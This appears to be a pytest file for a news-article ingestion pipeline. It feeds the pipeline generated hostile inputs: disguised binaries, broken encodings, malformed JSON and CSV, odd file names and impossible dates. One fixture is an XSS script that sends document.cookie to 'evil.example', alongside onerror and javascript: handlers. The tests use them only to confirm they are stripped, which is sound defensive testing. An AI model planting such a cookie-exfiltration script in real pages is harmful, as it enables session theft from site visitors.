"""Hostile input: the batch goes on, good inputs are imported, the bad one is named.

Every case writes its hostile file(s) into a fresh folder next to two good
articles, ingests the folder and checks three things:

1. the two good articles are imported with their text intact;
2. every file in the folder has a report row (nothing goes unaccounted for);
3. each hostile input has the status the case expects, and a reason that
   names the problem (for an imported file, the reason names what was
   repaired or ignored).

All inputs are generated here from a seeded ``random.Random``; nothing large
is committed. :data:`CASES` holds the one-file cases; tests/test_hostile_runs.py
covers what needs more than one file or more than one run.
"""

from __future__ import annotations

import codecs
import gzip
import io
import json
import sqlite3
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from analysis.ingest import ingest
from tests.fixtures.hostile import (
    ARTICLE,
    assert_batch_went_on,
    good_inputs,
    random_bytes,
    rows_ending,
    write_inputs,
)

UNICODE_ARTICLE = "Café naïve — “quoted” façade; the minister’s €5 million plan. " * 8 + "Fin."
ONE_LINE = "Ministers agreed a sanctions package in Brussels on Wednesday."


@dataclass(frozen=True)
class Expect:
    """What the report says about one hostile input (its label ends with ``label_end``)."""

    label_end: str
    status: str
    reason: str | None = None  # a case-insensitive part of the reason
    text: str | None = None  # the article's raw text, when imported


@dataclass(frozen=True)
class Case:
    files: dict  # file name (str, or bytes for a non-UTF-8 name) -> content bytes
    expect: tuple[Expect, ...]


def one(name: str, data: bytes, status: str, reason: str | None = None,
        text: str | None = None) -> Case:
    """A one-file case; ``name`` may end in ``:2``, the row of a one-record CSV that is meant."""
    file_name = name.removesuffix(":2")
    return Case({file_name: data}, (Expect(name, status, reason, text),))


def png_bytes() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + random_bytes(3000)


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("article.txt", ARTICLE * 20)
        archive.writestr("photo.jpg", random_bytes(2000))
    return buffer.getvalue()


def sqlite_bytes(tmp: Path) -> bytes:
    path = tmp / "scratch.sqlite"
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE t(x BLOB)")
    connection.execute("INSERT INTO t VALUES (?)", (random_bytes(4000),))
    connection.commit()
    connection.close()
    data = path.read_bytes()
    path.unlink()
    return data


def html_page(body: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>".encode("utf-8")


def record_line(**fields) -> str:
    return json.dumps({"text": ARTICLE, **fields})


SCRIPT = ("<script>document.title = 'owned'; "
          "fetch('https://evil.example/?c=' + document.cookie);</script>")
WINDOWS_TEXT = "The minister’s “security guarantees” cost €5 million — officials said. " * 4
GERMAN_TEXT = "Grüße aus Köln, sagte der Bürgermeister am Dienstag."
ARTICLE_JSON = ARTICLE.replace("\n", "\\n")  # ARTICLE inside a hand-written JSON string


def dated(article_id: str, date, city: str) -> str:
    text = f"An article about talks in {city}."
    return json.dumps({"id": article_id, "date": date, "text": text})


CASES = {
    # -- binary files ---------------------------------------------------------
    "png-named-txt": one("photo.txt", png_bytes(), "rejected", "binary"),
    "random-bytes": one("noise.txt", random_bytes(4096), "rejected", "binary"),
    "gzip-named-txt": one("archive.txt", gzip.compress(ARTICLE.encode() * 50),
                          "rejected", "binary"),
    "elf-named-html": one("program.html", b"\x7fELF\x02\x01\x01" + bytes(9) + random_bytes(3000),
                          "rejected", "binary"),
    "pdf-named-json": one("scan.json", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random_bytes(3000),
                          "rejected", "binary"),
    "zip-named-csv": one("export.csv", zip_bytes(), "rejected", "binary"),
    "nul-only": one("zeros.txt", bytes(4096), "rejected", "binary"),
    # -- encodings ------------------------------------------------------------
    "truncated-utf8": one("cut.txt", UNICODE_ARTICLE[:-4].encode("utf-8") + "é".encode()[:1],
                          "imported", "ends inside a UTF-8 character", UNICODE_ARTICLE[:-4]),
    "broken-utf8-sequence": one(
        "broken.txt", b"Ministers met. \xe2\x80" + UNICODE_ARTICLE.encode("utf-8"),
        "imported", "invalid UTF-8", "Ministers met. \ufffd" + UNICODE_ARTICLE),
    "utf16-le-without-bom": one("le.txt", UNICODE_ARTICLE.encode("utf-16-le"),
                                "imported", "utf_16", UNICODE_ARTICLE),
    "utf16-be-without-bom": one("be.txt", UNICODE_ARTICLE.encode("utf-16-be"),
                                "imported", "utf_16", UNICODE_ARTICLE),
    "utf16-without-bom-csv": one(
        "wide.csv:2", f"id,text\nw1,{ONE_LINE} Ça coûte.\n".encode("utf-16-le"),
        "imported", "utf_16", f"{ONE_LINE} Ça coûte."),
    "utf16-with-bom": one("bom16.txt", codecs.BOM_UTF16_LE + UNICODE_ARTICLE.encode("utf-16-le"),
                          "imported", None, UNICODE_ARTICLE),
    "utf32-with-bom": one("bom32.txt", UNICODE_ARTICLE.encode("utf-32"),
                          "imported", None, UNICODE_ARTICLE),
    "cp1252-english": one("windows.txt", WINDOWS_TEXT.encode("cp1252"),
                          "imported", "cp1252", WINDOWS_TEXT),
    "cp1252-french": one("francais.txt", ("Café naïve, façade, élève. " * 10).encode("cp1252"),
                         "imported", "cp1252", "Café naïve, façade, élève. " * 10),
    "cp1252-json": one(
        "legacy.json",
        json.dumps({"id": "legacy", "text": GERMAN_TEXT}, ensure_ascii=False).encode("cp1252"),
        "imported", "cp1252", GERMAN_TEXT),
    "utf8-bom-txt": one("bom8.txt", codecs.BOM_UTF8 + ARTICLE.encode(),
                        "imported", None, ARTICLE),
    "crlf-and-cr": one("dos.txt", ARTICLE.replace("\n", "\r\n").encode(),
                       "imported", None, ARTICLE),
    # -- NUL bytes ------------------------------------------------------------
    "stray-nul-bytes": one(
        "nul.txt", ARTICLE[:50].encode() + b"\x00" + ARTICLE[50:].encode() + b"\x00",
        "imported", "NUL", ARTICLE),
    "nul-in-jsonl-line": Case(
        {"nul.jsonl": (record_line(id="ok") + '\n{"id": "raw-nul", "text": "a\x00b"}\n').encode()},
        (Expect("nul.jsonl:1", "imported", None, ARTICLE),
         Expect("nul.jsonl:2", "rejected", "invalid JSON"))),
    # -- empty and whitespace-only --------------------------------------------
    "empty-txt": one("empty.txt", b"", "rejected", "empty"),
    "whitespace-txt": one("blank.txt", b" \t\n\r\n   \n", "rejected", "empty"),
    "unicode-whitespace-txt": one("nbsp.txt", "\u00a0\u2003\u3000\n\u2028".encode(),
                                  "rejected", "whitespace"),
    "bom-only": one("bom.txt", codecs.BOM_UTF8, "rejected", "whitespace"),
    "empty-json": one("empty.json", b"", "rejected", "empty"),
    "empty-json-list": one("list.json", b"[]", "rejected", "empty"),
    "empty-articles-key": one("wrapped.json", b'{"articles": []}', "rejected", "empty"),
    "empty-jsonl": one("empty.jsonl", b"\n\n  \n", "rejected", "empty"),
    "empty-csv": one("empty.csv", b"", "rejected", "empty"),
    "header-only-csv": one("header.csv", b"id,title,text\n", "rejected", "no rows"),
    "empty-html": one("empty.html", b"   ", "rejected", "empty"),
    # -- JSON -----------------------------------------------------------------
    "deeply-nested-json": one("deep.json", b"[" * 100_000 + b"]" * 100_000,
                              "rejected", "nested"),
    "deeply-nested-field": one(
        "deepfield.json",
        ('{"text": "%s", "meta": %s}' % (ARTICLE_JSON, "[" * 80 + "]" * 80)).encode(),
        "rejected", "nested deeper"),
    "json-scalar": one("number.json", b"42", "rejected", "article object"),
    "json-trailing-garbage": one("garbage.json", (json.dumps({"text": ARTICLE}) + " }}").encode(),
                                 "rejected", "invalid JSON"),
    "json-huge-integer": one(
        "bigint.json",
        ('{"id": "big", "text": "%s", "views": %s}' % (ARTICLE_JSON, "9" * 5000)).encode(),
        "imported", None, ARTICLE),
    "json-lone-surrogate": one(
        "surrogate.json",
        ('{"id": "emoji", "text": "Broken emoji \\ud83d here. %s"}' % ARTICLE_JSON).encode(),
        "imported", "surrogate", "Broken emoji \ufffd here. " + ARTICLE),
    "jsonl-lone-surrogates-in-text-and-field": Case(
        {"surrogate.jsonl": ('{"id": "ok", "text": "Fine emoji \\ud83d\\ude00 here. %s"}\n'
                             '{"id": "broken", "title": "x \\uDC00", "text": "Broken \\ud83d. %s"}\n'
                             % (ARTICLE_JSON, ARTICLE_JSON)).encode()},
        (Expect("surrogate.jsonl:1", "imported", None, "Fine emoji \U0001f600 here. " + ARTICLE),
         Expect("surrogate.jsonl:2", "imported", "2 lone UTF-16 surrogate(s)", "Broken \ufffd. " + ARTICLE))),
    "json-list-bad-elements": Case(
        {"mixed.json": json.dumps([{"id": "m1", "text": ARTICLE}, "just a string",
                                   {"id": {"nested": 1}, "text": "x"},
                                   {"id": "m4", "text": 7}]).encode()},
        (Expect("mixed.json[0]", "imported", None, ARTICLE),
         Expect("mixed.json[1]", "rejected", "expected an object"),
         Expect("mixed.json[2]", "rejected", "id must be"),
         Expect("mixed.json[3]", "rejected", "no text"))),
    # -- JSONL with bad lines among good ---------------------------------------
    "jsonl-bad-lines-among-good": Case(
        {"feed.jsonl": "\n".join([
            record_line(id="f1"),
            '{"id": "f2", "text": "truncated',
            "[1, 2, 3]",
            '"a string"',
            "",
            json.dumps({"id": "f6", "title": "no text"}),
            json.dumps({"id": ["a", "list"], "text": "x"}),
            json.dumps({"id": "f8", "text": "Another good line about the grain corridor."}),
            "not json at all",
        ]).encode()},
        (Expect("feed.jsonl:1", "imported", None, ARTICLE),
         Expect("feed.jsonl:2", "rejected", "invalid JSON"),
         Expect("feed.jsonl:3", "rejected", "expected an object"),
         Expect("feed.jsonl:4", "rejected", "expected an object"),
         Expect("feed.jsonl:6", "rejected", "no text"),
         Expect("feed.jsonl:7", "rejected", "id must be"),
         Expect("feed.jsonl:8", "imported"),
         Expect("feed.jsonl:9", "rejected", "invalid JSON"))),
    "jsonl-latin1-line": Case(
        {"mixed-encoding.jsonl": (record_line(id="u1") + "\n").encode()
         + '{"id": "l2", "text": "Ça a coûté cher."}\n'.encode("latin-1")},
        (Expect("mixed-encoding.jsonl:1", "imported", None, ARTICLE),
         Expect("mixed-encoding.jsonl:2", "rejected", "not UTF-8"))),
    # -- CSV ------------------------------------------------------------------
    "csv-wrong-columns": Case(
        {"columns.csv": ("id,outlet,text\n"
                         "c1,Planet,First good row about the sanctions package.\n"
                         "c2,Planet,too,many,fields\n"
                         "c3\n"
                         "c4,Planet,Last good row about the sanctions package.\n").encode()},
        (Expect("columns.csv:2", "imported"),
         Expect("columns.csv:3", "rejected", "fields; the header has 3"),
         Expect("columns.csv:4", "rejected", "no text"),
         Expect("columns.csv:5", "imported"))),
    "csv-embedded-newlines": one("multiline.csv:2",
                                 ('id,text\nml,"%s"\n' % ARTICLE.replace('"', '""')).encode(),
                                 "imported", None, ARTICLE),
    "csv-with-bom": one("excel.csv:2", codecs.BOM_UTF8 + b"id,text\nbom1," + ONE_LINE.encode(),
                        "imported", None, ONE_LINE),
    "csv-semicolons": one(
        "european.csv:2", "id;outlet;text\ns1;Le Soir;Les ministres se sont réunis.\n".encode(),
        "imported", None, "Les ministres se sont réunis."),
    "csv-no-text-column": one("people.csv", b"name,age\nAda,36\n",
                              "rejected", "no 'text' or 'body' column"),
    "csv-unclosed-quote": Case(
        {"quote.csv": b'id,text\nq1,First good row about talks.\n'
                      b'q2,"never closed\nq3,would be swallowed\n'},
        (Expect("quote.csv:2", "imported", None, "First good row about talks."),
         Expect("quote.csv:3", "rejected", "never closed"))),
    "csv-stray-quote": Case(
        {"stray.csv": b'id,text\nq1,"a"b stray quote\nq2,A good row after the bad one.\n'},
        (Expect("stray.csv:2", "rejected", "malformed CSV row"),
         Expect("stray.csv:3", "imported", None, "A good row after the bad one."))),
    "csv-huge-field": one("wide-field.csv:2", b"id,text\nwide," + b"word " * 300_000 + b"\n",
                          "imported", None, "word " * 300_000),
    # -- HTML -----------------------------------------------------------------
    "broken-html": one("broken.html", b"<html><body><div><p>" + ARTICLE.encode()
                       + b"<p><b>unclosed <i>tags</div></span></table>", "imported"),
    "script-only-html": one("script.html", html_page(SCRIPT * 5),
                            "rejected", "no readable text"),
    "style-and-comments-html": one(
        "styled.html", html_page("<style>body{color:red}</style><!-- " + ARTICLE + " -->"),
        "rejected", "no readable text"),
    "deeply-nested-html": one("nested.html",
                              b"<div>" * 30_000 + ARTICLE.encode() + b"</div>" * 30_000,
                              "imported"),
    "html-with-script-and-handlers": one(
        "handlers.html",
        html_page(f"<article><h1>Sanctions</h1><p>{ARTICLE}</p>{SCRIPT}"
                  '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">more</a></article>'),
        "imported"),
    # -- file names -----------------------------------------------------------
    "unicode-file-name": one("café — naïve 記事 🗞️.txt", ARTICLE.encode(),
                             "imported", None, ARTICLE),
    "nfd-file-name": one("cafe\u0301.txt", ARTICLE.encode(), "imported", None, ARTICLE),
    "rtl-override-file-name": one("\u202etxt.exe\u200b.txt", ARTICLE.encode(),
                                  "imported", None, ARTICLE),
    "newline-in-file-name": one("two\nlines.txt", ARTICLE.encode(), "imported", None, ARTICLE),
    "non-utf8-file-name": Case(
        {b"caf\xe9-latin1.txt": ARTICLE.encode()},
        (Expect("caf\ufffd-latin1.txt", "imported", "not valid UTF-8", ARTICLE),)),
    "dots-in-file-name": one("report..final...txt", ARTICLE.encode(), "imported", None, ARTICLE),
    "dotdot-leading-file-name": one("..evil.txt", ARTICLE.encode(), "skipped", "hidden"),
    "unsupported-extension": one("scan.pdf", b"%PDF-1.4 whatever",
                                 "rejected", "unsupported file type"),
    # -- dates ----------------------------------------------------------------
    "dates-that-do-not-exist": Case(
        {"dates.jsonl": "\n".join([
            record_line(id="d0", date="0000-00-00"),
            dated("d1", "2099-13-45", "Geneva"),
            dated("d2", "2022-02-30", "Vienna"),
            dated("d3", ["2022", 3], "Oslo"),
            dated("d4", "9" * 10_000, "Rome"),
            dated("d5", "2099-01-01", "Bern"),
        ]).encode()},
        tuple(Expect(f"dates.jsonl:{line}", "imported", "not a real, past calendar date")
              for line in range(1, 7))),
    "html-meta-date-invalid": one(
        "dated.html", html_page(f"<article><p>{ARTICLE}</p></article>",
                                '<meta property="article:published_time" content="2099-13-45">'),
        "imported"),
}


def assert_expected(store, report: pd.DataFrame, expect: Expect) -> None:
    rows = rows_ending(report, expect.label_end)
    assert len(rows) == 1, f"{expect.label_end!r}: {report.to_dict('records')}"
    row = rows.iloc[0]
    assert row["status"] == expect.status, row.to_dict()
    if expect.reason is not None:
        assert expect.reason.lower() in str(row["reason"]).lower(), row.to_dict()
    if expect.status == "imported":
        article = store.article(row["article_id"])
        if expect.text is not None:
            assert article["raw_text"] == expect.text
        assert "<script" not in article["body"] and "onerror" not in article["body"]


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_hostile_input_is_named_and_the_batch_goes_on(case, tmp_path, fresh_store):
    written = write_inputs(tmp_path, {**good_inputs(), **case.files})
    result = ingest(fresh_store, [tmp_path])
    assert_batch_went_on(fresh_store, result.report, written)
    for expect in case.expect:
        assert_expected(fresh_store, result.report, expect)
    integrity = fresh_store.connection.execute("PRAGMA integrity_check").fetchone()[0]
    assert integrity == "ok"


def test_binary_as_an_sqlite_file_named_jsonl(tmp_path, fresh_store):
    written = write_inputs(tmp_path, {**good_inputs(), "corpus.jsonl": sqlite_bytes(tmp_path)})
    result = ingest(fresh_store, [tmp_path])
    assert_batch_went_on(fresh_store, result.report, written)
    bad = result.report[result.report["input"].str.contains("/corpus.jsonl:")]
    assert not bad.empty
    assert (bad["status"] == "rejected").all() and bad["reason"].str.contains("UTF-8|JSON").all()


def test_html_hostile_markup_never_reaches_the_text(tmp_path, fresh_store):
    page = CASES["html-with-script-and-handlers"].files["handlers.html"]
    (tmp_path / "page.html").write_bytes(page)
    ingest(fresh_store, [tmp_path])
    article = fresh_store.article("page")
    for fragment in ("<script", "document.cookie", "onerror", "javascript:"):
        assert fragment not in article["raw_text"] and fragment not in article["body"]
    assert "sanctions" in article["body"]


def test_the_battery_has_at_least_40_cases():
    one_file = sum(len(case.expect) for case in CASES.values())
    assert len(CASES) >= 40 and one_file >= 60
